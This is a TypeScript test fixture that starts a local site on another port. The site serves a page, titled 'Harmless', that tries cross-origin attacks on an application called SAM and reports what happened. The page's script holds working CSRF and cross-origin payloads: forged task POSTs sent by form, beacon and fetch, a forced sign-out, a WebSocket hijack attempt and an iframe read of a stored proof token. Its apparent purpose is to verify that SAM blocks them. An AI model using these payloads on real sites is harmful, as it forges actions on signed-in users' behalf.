/**
 * A site of another port on this machine, such as an agent may start: it keeps the headers that it is sent, and its page
 * tries everything that a page can against SAM.
 */
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";

import type { Finisher } from "../../browser/support/chromium.ts";
import { until } from "../../system/support/until.ts";

export class ForeignSite {
  /** Of each request that came. */
  readonly seen: IncomingHttpHeaders[] = [];
  readonly #server: Server;
  readonly #target: string;
  #tried: Readonly<Record<string, string>> | null = null;

  private constructor(target: string) {
    this.#target = target;
    this.#server = createServer((request, response) => {
      this.seen.push(request.headers);
      if (request.url === "/tried") {
        let text = "";
        request.on("data", (chunk: Buffer) => {
          text += chunk.toString();
        });
        request.on("end", () => {
          this.#tried = JSON.parse(text) as Record<string, string>;
          response.end();
        });
        return;
      }
      response.writeHead(200, { "content-type": "text/html" }).end(this.#page());
    });
  }

  static async start(test: Finisher, target: string): Promise<ForeignSite> {
    const site = new ForeignSite(target);
    await new Promise<void>((resolve) => site.#server.listen(0, "127.0.0.1", resolve));
    test.onTestFinished(async () => {
      site.#server.closeAllConnections();
      site.#server.close();
      return Promise.resolve();
    });
    return site;
  }

  get url(): string {
    const address = this.#server.address();
    if (address === null || typeof address === "string") throw new Error("the site does not listen");
    return `http://127.0.0.1:${address.port}/`;
  }

  /** The cookies that the browser has sent along. */
  get cookies(): readonly string[] {
    return this.seen.flatMap(({ cookie }) => cookie ?? []);
  }

  /** What came of each attempt of the page. */
  tried(): Promise<Readonly<Record<string, string>>> {
    return until("the page has tried everything", () => this.#tried);
  }

  #page(): string {
    const target = JSON.stringify(this.#target);
    return `<!doctype html><title>Harmless</title><iframe name=taker></iframe><script type=module>
      const target = ${target};
      const task = JSON.stringify({ prompt: "FORGED", repository: { url: "/" } });
      const tried = {};
      const attempt = async (name, work) => {
        try { tried[name] = String(await Promise.race([work(), new Promise((resolve) => setTimeout(() => resolve("nothing within a second"), 1000))])); }
        catch (error) { tried[name] = "refused: " + error.name; }
      };
      const credentials = "include";
      await attempt("read", async () => (await fetch(target + "/api/tasks", { credentials })).status);
      await attempt("read blind", async () => (await fetch(target + "/api/tasks", { credentials, mode: "no-cors" })).type);
      await attempt("with a proof", async () => (await fetch(target + "/api/tasks", { credentials, headers: { "x-sam-proof": "x".repeat(43) } })).status);
      await attempt("post as text", async () => (await fetch(target + "/api/tasks", { method: "POST", credentials, mode: "no-cors", body: task })).type);
      await attempt("post as JSON", async () => (await fetch(target + "/api/tasks", { method: "POST", credentials, headers: { "content-type": "application/json" }, body: task })).status);
      await attempt("sign out", async () => (await fetch(target + "/api/session", { method: "DELETE", credentials })).status);
      await attempt("beacon", async () => navigator.sendBeacon(target + "/api/tasks", new Blob([task], { type: "text/plain" })));
      await attempt("form", async () => {
        document.body.insertAdjacentHTML("beforeend", '<form method=post target=taker enctype="text/plain" action="' + target + '/api/tasks"><input name=prompt value=FORGED></form>');
        document.forms[0].submit();
        return "sent";
      });
      await attempt("socket", () => new Promise((resolve) => {
        const socket = new WebSocket(target.replace("http", "ws") + "/api/tasks/task_00000000000000000000000000/stream", ["sam.stream"]);
        socket.onopen = () => resolve("open");
        socket.onerror = () => resolve("refused");
      }));
      await attempt("script", () => new Promise((resolve) => {
        const script = document.createElement("script");
        script.src = target + "/api/tasks";
        script.onload = () => resolve("loaded");
        script.onerror = () => resolve("refused");
        document.head.append(script);
      }));
      await attempt("frame", () => new Promise((resolve) => {
        const frame = document.createElement("iframe");
        frame.src = target + "/";
        frame.onload = () => { try { resolve(frame.contentWindow.localStorage.getItem("sam.proof") ?? "empty"); } catch (error) { resolve("refused: " + error.name); } };
        document.body.append(frame);
      }));
      await attempt("own storage", async () => localStorage.getItem("sam.proof") ?? "empty");
      await attempt("own cookie", async () => document.cookie || "empty");
      await fetch("/tried", { method: "POST", body: JSON.stringify(tried) });
    </script>`;
  }
}
